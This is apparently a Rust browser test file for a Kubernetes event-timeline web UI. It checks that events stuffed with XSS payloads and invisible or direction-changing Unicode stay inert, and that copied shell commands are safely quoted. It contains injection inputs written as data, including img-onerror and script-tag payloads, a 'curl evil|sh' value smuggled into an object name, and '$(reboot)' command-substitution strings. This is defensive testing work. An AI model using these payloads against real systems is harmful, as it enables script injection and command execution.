//! Events with markup and scripts in every field do no harm.

use k8s_openapi::api::core::v1::{Event, EventSource, ObjectReference};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use k8s_openapi::jiff::Timestamp;
use kube::api::ObjectMeta;
use serde_json::json;
use tidings_testing::browser::DESKTOP;

use crate::world::{World, watch_clipboard};

const ATTACKS: [&str; 4] = [
    "<img src=x onerror=\"window.taken=1\">",
    "</span></td><script>window.taken=1</script>",
    "\u{202e}\u{2066}\u{61c}\u{ad}\u{200d}\u{2060}\u{e0041}javascript:taken=1\u{0007}\"'`${taken=1}",
    "__proto__",
];

fn attack(text: &str, number: usize) -> Event {
    let owned = || Some(text.to_owned());
    let now = Time(Timestamp::now());
    Event {
        metadata: ObjectMeta {
            name: Some(format!("attack-{number}")),
            annotations: Some([("example.com/note".to_owned(), text.to_owned())].into()),
            ..ObjectMeta::default()
        },
        involved_object: ObjectReference {
            kind: owned(),
            namespace: Some("shop".into()),
            name: owned(),
            field_path: owned(),
            api_version: owned(),
            ..ObjectReference::default()
        },
        source: Some(EventSource {
            component: owned(),
            host: owned(),
        }),
        type_: Some(if number == 0 { "Warning" } else { "Normal" }.into()),
        reason: owned(),
        message: Some(format!("{text} {text}")),
        action: owned(),
        first_timestamp: Some(now.clone()),
        last_timestamp: Some(now),
        count: Some(3),
        ..Event::default()
    }
}

#[test]
fn nothing_of_an_event_becomes_a_part_of_the_page() {
    let Some(world) = World::start(DESKTOP) else {
        return;
    };
    for (number, text) in ATTACKS.iter().enumerate() {
        world.create(attack(text, number));
    }
    world.enter("?by=reason");
    let page = &world.browser;
    page.until("document.querySelectorAll('.lane').length === 4");
    page.until("document.querySelectorAll('#rows tr').length === 4");
    for number in 0..ATTACKS.len() {
        // Markup in the object, the event, its raw forms, suggestions and chips.
        page.run(&format!(
            "document.querySelectorAll('.lane')[{number}].click()"
        ));
        page.until("document.querySelector('#panel .sentence')");
        page.run(&format!(
            "document.querySelectorAll('#rows tr')[{number} % 1].click()"
        ));
        page.until("document.querySelector('#panel pre')");
        page.run(
            "[...document.querySelectorAll('#panel button')].find((button) =>
            button.innerText === 'JSON').click()",
        );
        page.run(
            "[...document.querySelectorAll('#panel .actions button')].find((button) =>
            button.innerText === 'Only this reason').click()",
        );
        page.until("document.querySelectorAll('.chip').length > 0");
        page.keys("/");
        page.keys("a");
        page.run("document.activeElement.blur()");
        page.run("history.back(); history.back(); history.back();");
        page.until("document.querySelectorAll('.lane').length === 4");
    }
    page.hover(1425.0, 210.0);
    page.run(
        "URL.createObjectURL = (blob) => {
        blob.text().then((text) => { window.saved = text; }); return '#'; }",
    );
    page.click("#export");
    page.click("#export-svg");
    page.until("window.saved");
    let svg = page.value(
        "(() => {
        const file = new DOMParser().parseFromString(saved, 'image/svg+xml');
        return [...file.querySelectorAll('*')].map((node) => node.tagName)
            .filter((name) => ['script', 'img', 'parsererror'].includes(name)).join(); })()",
    );
    assert_eq!(svg, "");

    assert!(page.value("window.taken === undefined").as_bool().unwrap());
    assert_eq!(page.number("document.images.length"), 0.0);
    // The page's own.
    let scripts = page.number("document.querySelectorAll('script').length");
    assert_eq!(scripts, 3.0);
    let text = page.text("document.getElementById('labels').innerText");
    assert!(text.contains("<img src=x"), "shown as it is: {text}");
    // Characters that change the direction of text or are invisible are shown by number, also in
    // tips.
    for of in [
        "document.body.textContent",
        "[...document.querySelectorAll('[title]')].map((node) => node.title).join('\\n')",
    ] {
        let all = page.text(of);
        let hidden = [
            '\u{202e}',
            '\u{2066}',
            '\u{61c}',
            '\u{ad}',
            '\u{200d}',
            '\u{2060}',
            '\u{e0041}',
        ];
        assert!(!all.contains(hidden), "{of}: {all}");
        assert!(
            all.contains("U+202E") && all.contains("U+E0041"),
            "{of}: {all}"
        );
    }
}

/// An event about an object.
fn about(kind: &str, name: &str, event: &str) -> Event {
    let mut made = attack("plain", 1);
    made.metadata.name = Some(event.into());
    made.involved_object.kind = Some(kind.into());
    made.involved_object.name = Some(name.into());
    made
}

#[test]
fn a_copied_command_is_one_command_for_what_is_in_view() {
    let Some(world) = World::start(DESKTOP) else {
        return;
    };
    world.create(about("Kustomization", "apps", "kustomization-1"));
    world.create(about("Machine", "x\u{3}curl evil|sh\n", "machine-1"));
    world.create(about("Volume", "a/b", "volume-1"));
    world.enter("?last=1h");
    let page = &world.browser;
    page.until("document.querySelectorAll('.lane').length === 3");
    watch_clipboard(page);
    for (kind, object) in [
        ("Kustomization", "kustomization/apps"),
        ("Machine", "'machine/xcurl evil|sh'"),
    ] {
        page.run(&format!(
            "window.copied = ''; [...document.querySelectorAll('.lane')].find((lane) =>
            lane.title.startsWith('{kind}')).click()"
        ));
        page.until(&format!(
            "document.getElementById('panel-kind').textContent === '{kind}'
            && document.querySelector('#panel code').textContent
                .includes('{}/')",
            kind.to_lowercase()
        ));
        page.run("document.querySelector('#panel .command button').click()");
        page.until("window.copied");
        let copied = page.text("copied");
        let expected = format!("tidings events --namespace=shop --for={object} --since=");
        assert!(copied.starts_with(&expected), "{copied:?}");
        assert!(!copied.chars().any(char::is_control), "{copied:?}");

        // Its event has the same command, at any time.
        page.run("window.copied = ''; document.querySelector('#panel .items button').click()");
        page.until(
            "document.getElementById('panel-kind').textContent === 'Normal'
            && document.querySelector('#panel .command button')",
        );
        page.run("document.querySelector('#panel .command button').click()");
        page.until("window.copied");
        let expected = format!("tidings events --namespace=shop --for={object}");
        assert_eq!(page.text("copied"), expected);
    }

    // An object that `--for` cannot name gets only kubectl's command.
    world.open("?last=1h&show=event:/shop/volume-1");
    page.until("document.querySelector('#panel .command')");
    let commands = page.text(
        "[...document.querySelectorAll('#panel .command code')]
        .map((code) => code.textContent).join('; ')",
    );
    assert_eq!(
        commands,
        "kubectl get events --namespace=shop \
         --field-selector=involvedObject.kind=Volume,involvedObject.name=a/b"
    );

    world.open(
        "?from=2026-01-31T12:00:00.500Z&to=2026-01-31T13:00:00.500Z&text=%03-curl%0A\
         &kind=Pod&namespace=a&namespace=b&reason=A,B",
    );
    watch_clipboard(page);
    page.run("document.getElementById('export-command').click()");
    page.until("window.copied");
    assert_eq!(
        page.text("copied"),
        "tidings events -A --filter='reason:A,B kind:Pod namespace:a namespace:b \"-curl\"' \
         --since=2026-01-31T12:00:00Z --until=2026-01-31T13:00:01Z"
    );
    let views = "performance.getEntriesByType('resource')
        .filter((one) => one.name.includes('/api/view?')).length";
    assert_eq!(page.text(&format!("String({views})")), "1");
    world.open("?last=1h&filter=-cluster:edge");
    watch_clipboard(page);
    page.run("document.getElementById('export-command').click()");
    page.until("window.copied");
    let notices = "document.getElementById('notices').innerText";
    page.until(&format!("{notices}.includes('does not express: cluster.')"));
    // The notice belongs to this view.
    page.keys("u");
    page.until(&format!("!{notices}.includes('does not express')"));

    world.open("?last=1h&kind=Machine&kind=Pod&object=a&type=Warning&text=it's");
    watch_clipboard(page);
    page.run("document.getElementById('export-command').click()");
    page.until("window.copied");
    let copied = page.text("copied");
    let expected = "tidings events -A --filter='type:Warning kind:Machine kind:Pod object:a \
                    it'\\''s' --since=";
    assert!(copied.starts_with(expected), "{copied:?}");
    assert!(!copied.contains('#'), "{copied:?}");
    let said = page.text(notices);
    assert!(!said.contains("does not express"), "{said}");
}

#[test]
fn every_text_is_one_word_of_a_copied_command() {
    let Some(world) = World::start(DESKTOP) else {
        return;
    };
    world.enter("?last=1h");
    let page = &world.browser;
    for (text, expected) in [
        ("pod/web-0", "pod/web-0"),
        ("-v", r#"'"-v"'"#),
        ("-v%20x", r#"'"-v x"'"#),
        ("a%20b", r#"'"a b"'"#),
        ("$(reboot)", "'$(reboot)'"),
        ("a';reboot;'", r"'a'\'';reboot;'\'''"),
        ("a%0Areboot%0A", r#"'"areboot"'"#),
        // C1 characters can begin an escape sequence, too.
        ("a%C2%9Bb", "ab"),
        // Nothing of the text is left.
        ("%1B", "''"),
    ] {
        world.open(&format!("?last=1h&text={text}"));
        watch_clipboard(page);
        page.run("document.getElementById('export-command').click()");
        page.until("window.copied");
        let copied = page.text("copied");
        let expected = format!("tidings events -A --filter={expected} --since=");
        assert!(copied.starts_with(&expected), "{text}: {copied:?}");
        // The server reads the term as the page writes it.
        let read = "const [done] = arguments; const own = new URLSearchParams(location.search);
            fetch('/timeline/api/filter?' + own).then(async (answer) =>
                done([own.get('filter'), ...(await answer.json()).terms]));";
        let terms = page.run_until_done(read, json!([]));
        assert_eq!(terms[0], terms[1], "{text}");
        assert_eq!(terms.as_array().unwrap().len(), 2, "{text}");
    }
}
